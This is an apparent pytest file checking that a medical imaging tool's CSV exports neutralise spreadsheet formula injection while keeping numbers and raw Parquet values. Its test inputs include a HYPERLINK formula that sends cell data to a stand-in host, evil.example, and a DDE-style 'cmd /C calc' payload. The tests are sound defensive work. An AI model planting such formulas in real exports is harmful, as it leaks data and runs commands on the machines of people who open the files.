"""No CSV the tool writes starts a text cell with a spreadsheet formula character; Parquet keeps
the raw value; the tool's own negative numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from imaging.batch.model import Failure
from imaging.batch.tables import write_failures
from imaging.cli import main
from imaging.endpoints.table import write_frame
from imaging.protocol.grade_forms import GradeRow, write_grade_csv
from imaging.protocol.loader import load_protocol
from imaging.spreadsheet import FORMULA_STARTS

SAMPLES = Path(__file__).resolve().parents[1] / "sample_dicom"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def _no_formula(path: Path) -> None:
    bad = [c for c in _cells(path) if c.startswith(FORMULA_STARTS) and not _number(c)]
    assert bad == [], f"{path.name}: {bad[:3]}"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_endpoint_tables_neutralise_text_and_keep_numbers(tmp_path: Path) -> None:
    if not (SAMPLES / "landmarks.csv").is_file():
        pytest.skip("sample_dicom/ has not been generated")
    table = pd.read_csv(SAMPLES / "landmarks.csv", dtype=str, keep_default_na=False)
    table = table[table["subject"] == "DLBP-002"]
    table["subject"], table["reader"] = HOSTILE, "@SUM(1+1)"
    landmarks = tmp_path / "landmarks.csv"
    table.to_csv(landmarks, index=False)
    for command in ("heights", "rom"):
        out = tmp_path / f"{command}.csv"
        assert main([command, str(landmarks), "--mm-per-pixel", "0.16", "--out", str(out)]) == 0
        _no_formula(out)
        written = pd.read_csv(out, dtype=str, keep_default_na=False)
        assert set(written["subject"]) == {"'" + HOSTILE}
        assert set(written["reader"]) == {"'@SUM(1+1)"}
        assert any(v.startswith("-") for v in written["value"])  # negative angles stay numbers
    parquet = tmp_path / "rom.parquet"
    assert main(["rom", str(landmarks), "--mm-per-pixel", "0.16", "--out", str(parquet)]) == 0
    assert set(pd.read_parquet(parquet)["subject"]) == {HOSTILE}  # Parquet keeps the raw value


def test_failures_forms_and_result_tables_neutralise_text(tmp_path: Path) -> None:
    write_failures([Failure("-cmd|' /C calc'!A0.dcm", "+S1", "baseline", "@reason")],
                   tmp_path / "failures.csv")  # fmt: skip
    _no_formula(tmp_path / "failures.csv")
    protocol = load_protocol()
    row = GradeRow("=S2", "baseline", "L4-L5", "\tR1", (("pfirrmann", "4"),), "-2 grades?")
    write_grade_csv([row], protocol, tmp_path / "grades.csv")
    _no_formula(tmp_path / "grades.csv")
    assert "'-2 grades?" in _cells(tmp_path / "grades.csv")
    frame = pd.DataFrame({"name": ["=1+1", "plain"], "value": [-3.5, 2.0]})
    write_frame(frame, tmp_path / "result.csv")
    _no_formula(tmp_path / "result.csv")
    assert _cells(tmp_path / "result.csv") == ["name", "value", "'=1+1", "-3.5", "plain", "2.0"]
